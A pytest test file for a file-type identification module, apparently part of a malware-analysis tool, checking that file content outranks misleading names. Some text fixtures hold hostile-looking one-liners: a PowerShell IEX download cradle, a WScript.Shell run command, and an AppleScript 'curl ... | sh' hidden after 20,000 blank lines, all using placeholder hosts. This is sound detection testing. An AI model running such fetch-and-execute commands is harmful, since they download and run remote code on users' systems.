"""Content identification: the type comes from the bytes; the name only breaks ties between text kinds."""

from __future__ import annotations

import bz2
import gzip
import io
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.analysis.sniff import TYPES, identify
from tests.conftest import CACHE
from tests.corpus import lnk_build, macho_build, zip_build
from tests.corpus.msi_build import build_msi
from tests.corpus.pe_build import build_pe


def _pe() -> bytes:
    return build_pe(CACHE).read_bytes()


def _msi() -> bytes:
    return build_msi(CACHE, manufacturer="Example Corp", name="Sniff Test").read_bytes()


def _ole_doc() -> bytes:
    """An OLE compound file whose root CLSID is not an MSI one (a legacy Office document's shape)."""
    data = bytearray(_msi())
    shift = struct.unpack_from("<H", data, 0x1E)[0]
    first_dir = struct.unpack_from("<I", data, 0x30)[0]
    root = ((first_dir + 1) << shift) + 0x50
    data[root : root + 16] = bytes.fromhex("0609020000000000c000000000000046")  # Word.Document.8
    return bytes(data)


def _ooxml() -> bytes:
    return zip_build.make({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\x00" * 17


def _mp4() -> bytes:
    return struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00isomiso2" + b"\x00" * 64


def _dmg() -> bytes:
    body = b"\x78\x9c" + bytes(range(256)) * 8  # a zlib-looking body; UDIF is decided by the trailer
    return body + b"koly" + struct.pack(">II", 4, 512) + b"\x00" * (512 - 12)


def _bmp() -> bytes:
    data = b"BM" + struct.pack("<IHHI", 70, 0, 0, 54) + b"\x28" + b"\x00" * 59
    return data[:70]


# (label, bytes builder, file name, expected type). Each case says why it exists.
BINARY_CASES: list[tuple[str, Callable[[], bytes], str, str]] = [
    ("pe", _pe, "setup.exe", "pe"),
    ("pe-named-pdf", _pe, "invoice.pdf", "pe"),  # renamed executable: content wins
    ("pdf-named-exe", lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "zoom.exe", "pdf"),
    ("pdf-late-header", lambda: b"junk\r\n%PDF-1.4\n", "a.pdf", "pdf"),  # readers accept a header in the 1st KB
    ("mz-without-pe", lambda: b"MZ" + b"\x00" * 100, "a.exe", "data"),  # DOS stub only: not a PE
    ("msi", _msi, "ZoomInstallerFull.msi", "msi"),
    ("msi-named-doc", _msi, "invoice.doc", "msi"),
    ("ole-doc", _ole_doc, "report.doc", "office-legacy"),
    ("macho", lambda: macho_build.build_macho("arm64"), "zoom.us", "macho"),
    ("macho-fat", lambda: macho_build.build_fat([("x86_64", macho_build.build_macho("x86_64")),
                                                 ("arm64", macho_build.build_macho("arm64"))]), "zoom.us", "macho-fat"),
    ("macho-fat64", lambda: macho_build.build_fat([("arm64", macho_build.build_macho("arm64"))], fat64=True), "x",
     "macho-fat"),
    ("java-class", macho_build.java_class, "Test.class", "data"),  # same 0xcafebabe magic, not Mach-O
    ("elf", lambda: Path("/usr/bin/ls").read_bytes(), "ls", "elf"),
    ("elf-named-txt", lambda: Path("/usr/bin/ls").read_bytes(), "readme.txt", "elf"),
    ("zip", zip_build.nested, "update.zip", "zip"),
    ("docx-is-zip", _ooxml, "a.docx", "zip"),
    ("empty-zip", lambda: zip_build.make({}), "e.zip", "zip"),
    ("sfx-prefixed-zip", lambda: b"\x01\x02junk\x00" * 50 + zip_build.nested(), "a.bin", "zip"),
    ("lnk", lnk_build.zoom_lure, "Zoom.lnk", "lnk"),
    ("lnk-named-pdf", lnk_build.zoom_lure, "invoice.pdf", "lnk"),
    ("scpt-compiled", lambda: b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04", "a.scpt", "applescript-compiled"),
    ("bplist", lambda: b"bplist00\xd1\x01\x02", "Info.plist", "plist"),
    ("xml-plist", lambda: b'<?xml version="1.0"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN">\n<plist/>',
     "Info.plist", "plist"),
    ("png", _png, "a.png", "image"),
    ("jpeg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "a.jpg", "image"),
    ("gif", lambda: b"GIF89a" + b"\x00" * 64, "a.gif", "image"),
    ("webp", lambda: b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 64, "a.webp", "image"),
    ("bmp", _bmp, "a.bmp", "image"),
    ("ico", lambda: b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00" + b"\x00" * 64, "a.ico", "image"),
    ("mp4", _mp4, "call.mp4", "media"),
    ("wav", lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 64, "a.wav", "media"),
    ("mp3", lambda: b"ID3\x04\x00\x00" + b"\x00" * 64, "a.mp3", "media"),
    ("ogg", lambda: b"OggS\x00\x02" + b"\x00" * 64, "a.ogg", "media"),
    ("webm", lambda: b"\x1a\x45\xdf\xa3" + b"\x00" * 64, "a.webm", "media"),
    ("gzip", lambda: gzip.compress(b"hello"), "a.tar.gz", "gzip"),
    ("7z", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64, "a.7z", "7z"),
    ("rar", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "a.rar", "rar"),
    ("dmg", _dmg, "Zoom.dmg", "dmg"),
    ("dmg-named-zip", _dmg, "Zoom.zip", "dmg"),
    ("bzip2-is-data", lambda: bz2.compress(b"x" * 1000), "a.bz2", "data"),  # not a type we dispatch on
    ("random", lambda: bytes((i * 197 + 13) % 256 for i in range(4096)), "a.bin", "data"),
    ("empty", lambda: b"", "empty.txt", "data"),
]  # fmt: skip


@pytest.mark.parametrize(("label", "build", "name", "expected"), BINARY_CASES, ids=[c[0] for c in BINARY_CASES])
def test_binary_types(label: str, build: Callable[[], bytes], name: str, expected: str) -> None:
    assert identify(build(), name) == expected


# (label, text, file name, expected type)
TEXT_CASES: list[tuple[str, str, str, str]] = [
    # shebangs decide regardless of name
    ("sh-shebang", "#!/bin/sh\necho hi\n", "fix", "script:shell"),
    ("bash-env", "#!/usr/bin/env bash\necho hi\n", "fix.txt", "script:shell"),
    ("zsh-shebang", "#!/bin/zsh\nprint hi\n", "a", "script:shell"),
    ("python3.11", "#!/usr/bin/python3.11\nprint(1)\n", "a", "script:python"),
    ("osascript-shebang", "#!/usr/bin/osascript\nbeep\n", "a", "script:applescript"),
    ("node-env-S", "#!/usr/bin/env -S node --no-warnings\nx()\n", "a", "script:javascript"),
    ("pwsh", "#!/usr/bin/env pwsh\nGet-Date\n", "a", "script:powershell"),
    # strong syntax markers decide without a helpful name
    ("applescript", 'tell application "Finder"\n  activate\nend tell\n', "zoom_sdk.txt", "script:applescript"),
    ("applescript-dss", 'do shell script "id"\n', "notes", "script:applescript"),
    ("powershell", "$u = $env:TEMP\nWrite-Host $u\n", "readme.txt", "script:powershell"),
    ("powershell-iex", "IEX (New-Object Net.WebClient).DownloadString('https://a.invalid')\n", "a.txt",
     "script:powershell"),
    ("vbs", 'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n', "a.txt", "script:vbs"),
    ("batch", "@echo off\ncd /d %~dp0\nstart app.exe\n", "a.txt", "script:batch"),
    ("javascript", "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('x');\n", "a.txt",
     "script:javascript"),
    ("python", "from os import path\n\ndef main():\n    pass\n", "a.txt", "script:python"),
    ("shell-body", "if [ -f x ]; then\n  echo y\nfi\n", "a.txt", "script:shell"),
    # content beats a misleading extension
    ("ps-named-js", "Write-Host 'x'\n$env:PATH\n", "a.js", "script:powershell"),
    ("vbs-named-pdf", 'CreateObject("WScript.Shell").Run "x"\n', "invoice.pdf", "script:vbs"),
    # the extension breaks ties, including "no markers at all" (the OS runs these by extension)
    ("ext-ps1", "Get-Date\n", "a.ps1", "script:powershell"),
    ("ext-command", "open -a Calculator\n", "fix.command", "script:shell"),
    ("ext-bat", "dir\n", "run.bat", "script:batch"),
    ("ext-applescript", "beep\n", "a.applescript", "script:applescript"),
    ("ext-vbs", "MsgBox 1\n", "a.vbs", "script:vbs"),
    # plain text stays text
    ("prose", "Meeting notes: we will use Zoom tomorrow at 10.\nBring the slides.\n", "notes.txt", "text"),
    ("markdown-mentions", "# Setup\nRun the installer and set the language to English.\n", "README.md", "text"),
    ("csv", "a,b,c\n1,2,3\n", "a.csv", "text"),
    # padded AppleScript: markers only at the end, after 20,000 blank lines
    ("padded-applescript", "\n" * 20_000 + 'do shell script "curl https://a.invalid | sh"\n', "x.txt",
     "script:applescript"),
]  # fmt: skip


@pytest.mark.parametrize(("label", "text", "name", "expected"), TEXT_CASES, ids=[c[0] for c in TEXT_CASES])
def test_text_types(label: str, text: str, name: str, expected: str) -> None:
    assert identify(text.encode(), name) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("\ufeffWrite-Host 'x'\n$env:TEMP\n".encode("utf-16-le"), "script:powershell"),  # PowerShell "Unicode"
        ("\ufeffWrite-Host 'x'\n$env:TEMP\n".encode("utf-16-be"), "script:powershell"),
        ("Write-Host 'x'\n$env:TEMP\n".encode("utf-16-le"), "script:powershell"),  # no BOM
        ("\ufeff@echo off\n".encode(), "script:batch"),  # UTF-8 BOM
        ("Grüße aus Zürich\n".encode("latin-1"), "text"),  # 8-bit legacy text
        ("Привет, встреча в Zoom завтра\n".encode(), "text"),  # non-ASCII UTF-8
    ],
    ids=["utf16le-bom", "utf16be-bom", "utf16le-nobom", "utf8-bom", "latin1", "utf8-cyrillic"],
)
def test_encodings(raw: bytes, expected: str) -> None:
    assert identify(raw, "x") == expected


def test_text_with_control_bytes_is_data() -> None:
    assert identify(bytes(range(1, 32)) * 100, "a.txt") == "data"


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=9000), st.text(max_size=30))
def test_total(data: bytes, name: str) -> None:
    # Any input returns a known type and never raises.
    assert identify(data, name) in TYPES


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from([b"MZ", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\xca\xfe\xba\xbe", b"PK\x05\x06", b"L\x00\x00\x00"]),
    st.binary(max_size=600),
)
def test_total_on_truncated_magic(magic: bytes, rest: bytes) -> None:
    assert identify(magic + rest, "x") in TYPES


def test_mmap_input(tmp_path: Path) -> None:
    import mmap

    path = tmp_path / "a.zip"
    path.write_bytes(zip_build.nested())
    with path.open("rb") as f, mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as m:
        assert identify(m, "a.zip") == "zip"


def test_fast() -> None:
    # Binary magic: microseconds. Text: bounded by the 4 KB head + 4 KB tail, whatever the file size.
    big_text = ("Some prose about meetings and calls. " * 30 + "\n") * 20_000  # ~22 MB
    samples = [(_pe(), "a.exe"), (zip_build.nested(), "a.zip"), (big_text.encode(), "notes.txt")]
    for data, name in samples:
        start = time.perf_counter()
        for _ in range(100):
            identify(data, name)
        per_call = (time.perf_counter() - start) / 100
        assert per_call < 0.002, (name, per_call)


def test_zip_bytes_round_trip() -> None:
    # Guard for the fixtures above: the zip builder really produces archives zipfile can read.
    assert zipfile.ZipFile(io.BytesIO(zip_build.nested())).namelist() == ["inner.zip", "readme.txt"]
